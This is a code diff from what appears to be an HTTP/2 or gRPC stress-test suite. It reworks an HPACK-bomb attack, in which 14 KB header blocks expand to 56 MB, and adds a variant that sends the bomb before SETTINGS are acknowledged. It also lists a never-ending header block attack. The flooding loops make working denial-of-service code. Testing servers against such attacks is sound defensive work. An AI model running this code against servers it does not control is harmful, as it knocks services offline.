@@ -71,15 +71,20 @@ async function manyValuesAtRate(
 }
 
 /** HPACK bombs: a short block that stands for a long list. */
-async function hpackBomb({ open, goesOn }: Means): Promise<void> {
-  const peer = await open();
-  const value = indexedField("x-long", "a".repeat(VALUE_BYTES));
-  const first = concat([UNARY_HEAD, value]);
-  await peer.write(callFrames(peer.newStream(), first));
-  const bomb = concat([UNARY_HEAD, newest(14_000)]);
-  while (goesOn() && !peer.isClosed) {
-    await peer.write(headersFrames(peer.newStream(), bomb, true));
-  }
+function hpackBomb(acknowledges: boolean) {
+  return async ({ open, goesOn }: Means): Promise<void> => {
+    const peer = await open({ acknowledges });
+    const value = indexedField("x-long", "a".repeat(VALUE_BYTES));
+    const streamId = peer.newStream();
+    const reply = peer.reply(streamId);
+    await peer.write(callFrames(streamId, concat([UNARY_HEAD, value])));
+    // By then SETTINGS are acknowledged.
+    await reply;
+    const bomb = concat([UNARY_HEAD, newest(14_000)]);
+    while (goesOn() && !peer.isClosed) {
+      await peer.write(headersFrames(peer.newStream(), bomb, true));
+    }
+  };
 }
 
 /** A header block that never ends: VU#421644. */
@@ -126,8 +131,17 @@ export const METADATA_ATTACKS: readonly Attack[] = [
     name: "hpack-bomb",
     what: "blocks of 14 KB that stand for 56 MB",
     seconds: 8,
-    ends: false,
-    run: hpackBomb,
+    shortSeconds: 2,
+    ends: true,
+    run: hpackBomb(true),
+  },
+  {
+    name: "hpack-bomb-early",
+    what: "the same before SETTINGS are acknowledged, which they never are",
+    seconds: 8,
+    shortSeconds: 2,
+    ends: true,
+    run: hpackBomb(false),
   },
   {
     name: "continuation",
